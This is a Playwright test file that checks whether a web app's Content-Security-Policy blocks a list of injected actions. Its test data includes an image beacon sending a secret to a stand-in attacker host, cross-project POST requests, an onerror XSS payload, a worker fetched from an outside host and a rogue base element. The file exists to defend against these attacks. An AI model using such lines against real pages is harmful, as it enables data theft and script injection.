// The Content-Security-Policy blocks injected content.
// Its tests use no `newPhone`, which fails at the first violation: here each violation is expected.
import { expect, test } from './fixtures.ts';

const intrusions: Readonly<Record<string, readonly [directive: string, act: () => unknown]>> = {
  'another bucket’s picture': [
    'img-src',
    () => {
      new Image().src = 'https://firebasestorage.googleapis.com/v0/b/evil.appspot.com/o/x?alt=media';
    },
  ],
  'a picture of anywhere': [
    'img-src',
    () => {
      new Image().src = 'https://evil.test/?secret';
    },
  ],
  'a request to another project': [
    'connect-src',
    () => fetch('https://firestore.googleapis.com/v1/projects/evil/databases/x', { method: 'POST' }),
  ],
  'a request to another bucket': [
    'connect-src',
    () => fetch('https://firebasestorage.googleapis.com/v0/b/evil.appspot.com/o?name=x', { method: 'POST' }),
  ],
  'a request to another API of Google': [
    'connect-src',
    () => fetch('https://www.googleapis.com/drive/v3/files'),
  ],
  'a <style> element': [
    'style-src-elem',
    () => {
      const style = document.createElement('style');
      style.textContent = 'body { display: none }';
      document.head.append(style);
    },
  ],
  'a style attribute': ['style-src-attr', () => document.body.setAttribute('style', 'display: none')],
  'another base': [
    'base-uri',
    () => {
      const base = document.createElement('base');
      base.href = 'https://evil.test/';
      document.head.append(base);
    },
  ],
  'markup from text': [
    'require-trusted-types-for',
    () => {
      document.body.innerHTML = '<img src=x onerror=alert(1)>';
    },
  ],
  'a worker from elsewhere': ['require-trusted-types-for', () => new Worker('https://evil.test/x.js')],
  'a worker from a file of ours that is no script': [
    'require-trusted-types-for',
    () => new Worker('/feed/all.json'),
  ],
  'a policy of types of its own': [
    'trusted-types',
    () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): void };
      };
      trustedTypes.createPolicy('evil', {});
    },
  ],
};

for (const [what, [directive, act]] of Object.entries(intrusions)) {
  test(`blocks ${what}`, async ({ page, server }) => {
    await page.goto(server.url);
    const stopped = await page.evaluateHandle(() => {
      const heard: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        heard.push(effectiveDirective),
      );
      return heard;
    });
    // The error that the refusal throws is not part of the test.
    await page.evaluate(act).catch(() => {});
    await expect.poll(() => stopped.jsonValue()).toContain(directive);
  });
}
